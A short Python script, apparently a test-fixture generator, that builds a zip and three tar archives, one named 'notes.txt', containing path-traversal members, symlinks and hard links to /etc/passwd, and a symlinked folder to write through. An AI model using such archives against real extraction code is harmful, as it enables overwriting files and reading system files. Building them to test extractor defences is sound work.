# Archives whose members lead out of wherever they are unpacked.
import io
import tarfile
import zipfile

GOAL = WORLD["writable"] + "/owned"
UP = "../" * 12 + GOAL.lstrip("/")
with zipfile.ZipFile("up.zip", "w") as archive:
    archive.writestr(UP, "owned")
    archive.writestr(GOAL, "owned")
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    archive.writestr(link, "/etc/passwd")


def member(archive, name, kind=tarfile.REGTYPE, target=""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, target, 0o644
    info.size = 5 if kind == tarfile.REGTYPE else 0
    archive.addfile(info, io.BytesIO(b"owned") if info.size else None)


for name, mode in (("up.tar", "w"), ("up.tar.gz", "w:gz"), ("notes.txt", "w")):
    with tarfile.open(name, mode) as archive:
        member(archive, "folder", tarfile.SYMTYPE, WORLD["writable"])
        member(archive, "folder/owned")
        member(archive, UP)
        member(archive, GOAL)
        member(archive, "hard", tarfile.LNKTYPE, "/etc/passwd")
print("MADE", 4)
